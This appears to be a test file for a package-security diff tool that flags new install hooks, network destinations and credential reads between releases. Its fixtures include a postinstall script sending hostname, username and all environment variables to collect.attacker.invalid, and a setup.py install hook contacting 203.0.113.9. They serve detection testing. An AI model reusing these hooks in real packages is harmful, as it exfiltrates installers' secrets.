import { test } from 'node:test';
import assert from 'node:assert/strict';
import { unpackArtifact } from '../../src/archive/index.js';
import type { FileTree, Finding } from '../../src/core/types.js';
import { diffTrees, hostsIn, newFindings, renderDiffJson, renderDiffSarif, renderDiffText } from '../../src/diff/index.js';
import { makeNpmTgz, makeSdist } from '../helpers/archives.js';

const benignIndex = `'use strict';\nmodule.exports = function pad(s, n) { return String(s).padStart(n); };\n`;
const benignPkg = { name: 'left-padder', version: '1.0.0', main: 'index.js', scripts: { test: 'node test.js' }, dependencies: { 'is-number': '^7.0.0' } };
const evilPkg = {
  ...benignPkg,
  version: '1.0.1',
  scripts: { test: 'node test.js', postinstall: 'node lib/collect.js' },
  dependencies: { 'is-number': '^7.0.0', 'left-pad-helper': '1.0.0' },
};
const collect = `const os = require('os');
const https = require('https');
const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, env: process.env });
const req = https.request({ hostname: 'collect.attacker.invalid', path: '/c', method: 'POST' });
req.end(body);
`;

function tgz(pkg: Record<string, unknown>, files: Record<string, string>): FileTree {
  return unpackArtifact(makeNpmTgz(pkg, files), 'left-padder.tgz');
}

test('a compromised successor: the diff names the new hook and the new destination', () => {
  const a = tgz(benignPkg, { 'index.js': benignIndex, 'README.md': 'See https://github.com/example/left-padder' });
  const b = tgz(evilPkg, { 'index.js': benignIndex, 'README.md': 'See https://github.com/example/left-padder', 'lib/collect.js': collect });
  const diff = diffTrees({ tree: a, findings: [], label: 'npm:left-padder@1.0.0' }, { tree: b, findings: [], label: 'npm:left-padder@1.0.1' });
  assert.deepEqual(diff.files.added, ['lib/collect.js']);
  assert.deepEqual(diff.files.changed, ['package.json']);
  assert.deepEqual(diff.files.removed, []);
  assert.equal(diff.files.unchanged, 2);
  assert.deepEqual(diff.installHooks.added.map((h) => [h.hook, h.command]), [['scripts.postinstall', 'node lib/collect.js']]);
  assert.deepEqual(diff.installFilesChanged, ['lib/collect.js']);
  assert.deepEqual(diff.destinations.added.map((d) => d.host), ['collect.attacker.invalid']);
  assert.ok(diff.credentialSources.added.some((c) => c.source === 'host identity'));
  assert.ok(diff.credentialSources.added.some((c) => c.source === 'environment (whole)'));
  assert.deepEqual(diff.dependencies.added.map((d) => d.name), ['left-pad-helper']);
  assert.equal(diff.newBehaviour, true);

  const text = renderDiffText(diff);
  assert.match(text, /install hook scripts\.postinstall in package\.json: node lib\/collect\.js/);
  assert.match(text, /network destination collect\.attacker\.invalid/);
  const json = JSON.parse(renderDiffJson(diff)) as { schemaVersion: number; destinations: { added: { host: string }[] } };
  assert.equal(json.schemaVersion, 1);
  assert.equal(json.destinations.added[0]?.host, 'collect.attacker.invalid');
  const sarif = JSON.parse(renderDiffSarif(diff, { version: '1.2.3' })) as { version: string; runs: { results: { ruleId: string }[] }[] };
  assert.equal(sarif.version, '2.1.0');
  const ids = sarif.runs[0]?.results.map((r) => r.ruleId) ?? [];
  assert.ok(ids.includes('diff/new-install-hook'));
  assert.ok(ids.includes('diff/new-destination'));
});

test('identical releases show no new behaviour', () => {
  const a = tgz(benignPkg, { 'index.js': benignIndex });
  const diff = diffTrees({ tree: a, findings: [] }, { tree: tgz({ ...benignPkg, version: '1.0.0' }, { 'index.js': benignIndex }), findings: [] });
  assert.equal(diff.newBehaviour, false);
  assert.match(renderDiffText(diff), /No new behaviour/);
});

test('sdists line up across the version folder; cmdclass hooks and requirements are compared', () => {
  const setupA = `from setuptools import setup\nsetup(name='tool', version='1.0', install_requires=['requests>=2'])\n`;
  const setupB = `from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        import urllib.request\n        urllib.request.urlopen('http://203.0.113.9/x')\nsetup(name='tool', version='1.1', cmdclass={'install': Post}, install_requires=['requests>=2', 'reqeusts'])\n`;
  const a = unpackArtifact(makeSdist('tool', '1.0', { 'setup.py': setupA, 'tool/__init__.py': 'X = 1\n' }), 'tool-1.0.tar.gz');
  const b = unpackArtifact(makeSdist('tool', '1.1', { 'setup.py': setupB, 'tool/__init__.py': 'X = 1\n' }), 'tool-1.1.tar.gz');
  const diff = diffTrees({ tree: a, findings: [] }, { tree: b, findings: [] });
  assert.deepEqual(diff.files.added, []);
  assert.ok(diff.files.changed.includes('setup.py'));
  assert.ok(diff.installHooks.added.some((h) => h.hook === 'cmdclass:install' && h.command === 'Post'));
  assert.deepEqual(diff.installFilesChanged, ['setup.py']);
  assert.deepEqual(diff.destinations.added.map((d) => d.host), ['203.0.113.9']);
  assert.deepEqual(diff.dependencies.added.map((d) => d.name), ['reqeusts']);
});

test('findings are matched by rule, path and evidence, not by line', () => {
  const tree: FileTree = { format: 'directory', files: [], issues: [] as FileTree['issues'], totalBytes: 0 };
  const f = (line: number, evidence: string, path = 'pkg/a.py'): Finding => ({
    ruleId: 'py/exec', severity: 'high', kind: 'threat', category: 'execution', confidence: 'high',
    message: 'exec', location: { path, line }, evidence, trigger: 'import',
  });
  const diff = diffTrees(
    { tree, findings: [f(3, 'exec(x)')] },
    { tree, findings: [f(10, 'exec(x)'), f(12, 'exec(y)'), f(40, 'exec(x)')] },
  );
  assert.deepEqual(diff.findings.added.map((x) => [x.location.line, x.evidence]), [[12, 'exec(y)'], [40, 'exec(x)']]);
  assert.deepEqual(diff.findings.grown, [{ ruleId: 'py/exec', before: 1, after: 3 }]);
  assert.deepEqual(diff.findings.removed, []);
});

test('destinations from finding data and literal URLs; licence hosts ignored', () => {
  assert.deepEqual([...hostsIn(`fetch("https://api.evil.invalid/x"); // http://www.apache.org/licenses/LICENSE-2.0`)], ['api.evil.invalid']);
  assert.deepEqual([...hostsIn(`version = "1.2.3"; v = "10.0.0"`)], []);
  const tree: FileTree = { format: 'directory', files: [], issues: [], totalBytes: 0 };
  const finding: Finding = {
    ruleId: 'js/exfil', severity: 'high', kind: 'threat', category: 'exfiltration', confidence: 'high', message: 'm',
    location: { path: 'package/x.js', line: 1 }, evidence: 'e', trigger: 'install', data: { url: 'https://drop.invalid/u' },
  };
  const diff = diffTrees({ tree, findings: [] }, { tree, findings: [finding] });
  assert.deepEqual(diff.destinations.added, [{ host: 'drop.invalid', files: ['package/x.js'], via: 'finding' }]);
});

test('control characters in attacker text are escaped in the text report', () => {
  const a = tgz(benignPkg, {});
  const b = tgz({ ...benignPkg, scripts: { postinstall: 'node x.js \u001b[2J\u202e' } }, {});
  const text = renderDiffText(diffTrees({ tree: a, findings: [] }, { tree: b, findings: [] }));
  assert.ok(!text.includes('\u001b'));
  assert.ok(!text.includes('\u202e'));
});

test('newFindings ignores line moves and version folders', () => {
  const f = (path: string, line: number, evidence: string): Finding => ({
    ruleId: 'npm/install-script', severity: 'low', kind: 'capability', category: 'execution', confidence: 'high',
    message: 'm', location: { path, line }, evidence, trigger: 'install',
  });
  const added = newFindings([f('pkg-1.0/setup.py', 3, 'a')], [f('pkg-1.1/setup.py', 9, 'a'), f('pkg-1.1/setup.py', 12, 'b')]);
  assert.deepEqual(added.map((x) => x.evidence), ['b']);
});
